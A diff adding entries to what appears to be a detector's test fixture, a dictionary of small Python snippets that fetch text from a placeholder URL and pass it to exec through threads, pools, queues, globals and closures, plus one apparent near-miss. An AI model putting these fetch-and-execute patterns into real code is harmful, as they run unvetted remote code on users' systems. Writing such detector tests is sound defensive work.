@@ -23,6 +23,11 @@ class Feed:
 """,
     "kept, and run within": "class Feed:\n    def pull(self):\n        self.text = requests.get(URL).text\n\n    def draw(self):\n        def inner():\n            exec(self.text)\n        return inner\n",
     "decoded": "def undo(t):\n    return bytes.fromhex(t[3:]).decode()\n\ndef go():\n    exec(undo(requests.get(URL).text))\n",
+    "a thread": "import threading\ndef run(text):\n    exec(text)\n\ndef go():\n    threading.Thread(target=run, args=(requests.get(URL).text,)).start()\n",
+    "a pool": "def run(text):\n    exec(text)\n\ndef go(pool):\n    pool.submit(run, requests.get(URL).text)\n",
+    "a queue": "import queue\nJOBS = queue.Queue()\n\ndef go():\n    JOBS.put(requests.get(URL).text)\n\ndef run():\n    exec(JOBS.get())\n",
+    "a name of the module": "TEXT = None\n\ndef go():\n    global TEXT\n    TEXT = requests.get(URL).text\n\ndef run():\n    exec(TEXT)\n",
+    "a function within": "def go():\n    text = requests.get(URL).text\n\n    def run():\n        exec(text)\n    return run\n",
     "whoever runs it": "def go():\n    code = requests.get(URL).text\n    (lambda f: f(code))(exec)\n    list(map(exec, [code]))\n",
     "in the background": """
 import aiohttp
@@ -102,6 +107,7 @@ def serve():
     "a worker": "from multiprocessing import Pipe\ndef go(conn):\n    exec(conn.recv())\n",
     "a path of its own": "class Tool:\n    def go(self):\n        os.system(self.path)\n        requests.get(URL)\n",
     "an argument of that name": "text = requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
+    "a name of its own": "text = requests.get(URL).text\n\ndef run():\n    text = 'print(1)'\n    exec(text)\n",
     "a template": "import jinja2\ndef go(name):\n    requests.get(URL)\n    exec(jinja2.Template('x').render(name=name))\n",
 }
 
